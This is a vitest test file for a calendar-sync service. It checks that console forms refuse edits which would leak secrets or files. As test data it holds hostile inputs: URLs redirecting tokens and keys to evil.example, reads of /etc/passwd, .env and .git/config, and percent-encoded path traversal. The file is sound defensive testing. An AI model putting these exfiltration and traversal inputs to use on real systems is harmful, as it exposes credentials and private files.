import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { readConfig, type Config } from '../../../src/config.ts';
import { refusedByForms } from '../../../src/config/change/form-limits.ts';
import { rawIn } from '../../../src/config/splice/raw.ts';
import { problemInWords } from '../../../src/cli/terminal/words.ts';

// An administrator of the site must not learn the secrets and files of the machine through forms.

const FILE = '/srv/town/calsyncd.yaml';
const LIMITS = `
operator: { environment: [SLACK] }
fetch: { allow_files: [feeds, /srv/data] }
`;
const BEFORE = `
sources:
  library:
    url: https://library.example/a.ics?key=\${LIBRARY_KEY}
    auth: { bearer: "\${LIBRARY_TOKEN}" }
    set: [{ when: [], title: "\${CITY} {0}" }, { title: 'Plain' }]
  shared: { <<: { auth: { basic: { username: a, password: b } } }, url: "https://shared.example/a.ics" }
  local: { url: "file:old/.hidden.ics" }
alerts:
  receivers:
    phone: { ntfy: "https://ntfy.example/town", token: "\${NTFY_TOKEN}" }
`;

function configOf(): Config {
  const { value, problems } = readConfig(FILE, Buffer.from(LIMITS), { DATA_DIR: '/srv/data' });
  if (!value) throw new Error(problems.map(problemInWords).join('\n'));
  return value;
}

const config = configOf();
const refused = (after: string, before = BEFORE): readonly string[] =>
  refusedByForms(rawIn(before), rawIn(after), config).map(({ where, message }) => `${where.field}: ${message}`);

describe('a form of the console cannot', () => {
  test.each<[what: string, from: string, to: string, field: string]>([
    ['put a secret of the site into a title', 'Plain', '${SITE_APPLICATION_PASSWORD}', 'sources.library.set.title'],
    ['put a variable into the middle of a title', 'Plain', 'on ${HOME}!', 'sources.library.set.title'],
    ['put a variable with a default into a title', 'Plain', '${HOME:-x}', 'sources.library.set.title'],
    [
      'put a variable that the file names elsewhere into a title',
      'Plain',
      '${LIBRARY_TOKEN}',
      'sources.library.set.title',
    ],
    ['send a key to another server', 'library.example', 'evil.example', 'sources.library.url'],
    ['add a variable to an address', 'shared.example/a.ics', 'shared.example/${HOME}', 'sources.shared.url'],
    [
      'copy a token to another receiver',
      'receivers:',
      'receivers:\n    evil: { ntfy: "https://evil.example/t", token: "${NTFY_TOKEN}" }',
      'alerts.receivers.evil.token',
    ],
    ['move a receiver with its token', 'ntfy.example', 'evil.example', 'alerts.receivers.phone.ntfy'],
    ['move a source with shared credentials to another server', 'https://shared', 'https://evil', 'sources.shared.url'],
    ['move it to the same server without encryption', 'https://shared', 'http://shared', 'sources.shared.url'],
    ['move it to another port', 'shared.example', 'shared.example:8443', 'sources.shared.url'],
    ['read a dot-file beside the configuration', 'file:old/.hidden.ics', 'file:.env', 'sources.local.url'],
    ['read the configuration', 'file:old/.hidden.ics', 'file:calsyncd.yaml', 'sources.local.url'],
    ['read another file beside the one it reads', 'file:old/.hidden.ics', 'file:old/a.ics', 'sources.local.url'],
    [
      'read such a file with capitals and a space in its address',
      'file:old/.hidden.ics',
      ' FILE:old/a.ics',
      'sources.local.url',
    ],
    ['read a file elsewhere on the machine', 'file:old/.hidden.ics', 'file:///etc/passwd', 'sources.local.url'],
    ['leave an allowed folder with ..', 'file:old/.hidden.ics', 'file:feeds/../a.ics', 'sources.local.url'],
    [
      'leave an allowed folder with a percent-encoded ..',
      'file:old/.hidden.ics',
      'file:feeds/%2e%2e/a.ics',
      'sources.local.url',
    ],
    [
      'read from a folder whose name only begins like an allowed one',
      'file:old/.hidden.ics',
      'file:feeds-of-others/a.ics',
      'sources.local.url',
    ],
    ['read a dot-file in an allowed folder', 'file:old/.hidden.ics', 'file:feeds/%2eenv', 'sources.local.url'],
    [
      'read from a dot-folder in an allowed folder',
      'file:old/.hidden.ics',
      'file:feeds/.git/config',
      'sources.local.url',
    ],
    [
      'read the files of the database',
      'file:old/.hidden.ics',
      'file:/srv/data/postgres/data/PG_VERSION',
      'sources.local.url',
    ],
    ['read an allowed folder itself', 'file:old/.hidden.ics', 'file:feeds', 'sources.local.url'],
    [
      'hide a file in the default of an allowed variable',
      'file:old/.hidden.ics',
      '${SLACK:-file:.env}',
      'sources.local.url',
    ],
    ['read a file by its bare name', 'file:old/.hidden.ics', 'calsyncd.yaml', 'sources.local.url'],
  ])('%s', (_, from, to, field) => {
    expect(BEFORE).toContain(from);
    expect(refused(BEFORE.replace(from, () => to))).toContainEqual(expect.stringContaining(`${field}: `));
  });

  test.each(['htp://library.example/a.ics', 'library.example/a.ics', 'a.ics'])(
    'read %s, which is neither a web address nor a file: address',
    (address) => {
      expect(refused(BEFORE.replace('file:old/.hidden.ics', address))).toEqual([
        `sources.local.url: Expected an address beginning with https:, http: or webcal:, found "${address}".`,
      ]);
    },
  );

  test('rename a source to send its secrets elsewhere', () => {
    const renamed = BEFORE.replace(
      '  local:',
      '  evil: { was: library, url: "https://evil.example/?${LIBRARY_KEY}" }\n  local:',
    );
    expect(refused(renamed)).toHaveLength(1);
    const moved = BEFORE.replace('  library:', '  evil:\n    was: library').replace('library.example', 'evil.example');
    expect(refused(moved)).toHaveLength(2);
  });
});

describe('a form of the console can', () => {
  test.each<[what: string, from: string, to: string]>([
    ['leave values as they are', 'Plain', 'Plain'],
    ['change a value without a variable', 'Plain', 'Other'],
    ['name a variable that the configuration allows', 'receivers:', 'receivers:\n    office: { slack: "${SLACK}" }'],
    ['write an escaped dollar sign', 'Plain', '$${HOME}'],
    [
      'reorder rules',
      `{ when: [], title: "\${CITY} {0}" }, { title: 'Plain' }`,
      `{ title: 'Plain' }, { when: [], title: "\${CITY} {0}" }`,
    ],
    ['change the path of an address with credentials', 'shared.example/a.ics', 'shared.example/b.ics'],
    [
      'remove a receiver’s token when its address changes',
      'ntfy: "https://ntfy.example/town", token: "${NTFY_TOKEN}"',
      'ntfy: "https://ntfy.example/other"',
    ],
    ['read a file in an allowed folder', 'file:old/.hidden.ics', 'file:feeds/a.ics'],
    ['read a file further below it', 'file:old/.hidden.ics', 'file:///srv/town/feeds/2027/a.ics'],
    [
      'read an uploaded file',
      'file:old/.hidden.ics',
      `file://${path.resolve('/srv/data/uploads')}/0123456789abcdef0123456789abcdef.ics`,
    ],
    ['read the web instead', 'file:old/.hidden.ics', 'webcal://library.example/a.ics'],
    ['rename a source', '  library:', '  books:\n    was: library'],
    ['remove a source', '  local: { url: "file:old/.hidden.ics" }\n', ''],
  ])('%s', (_, from, to) => {
    expect(BEFORE).toContain(from);
    expect(refused(BEFORE.replace(from, () => to))).toEqual([]);
  });
});
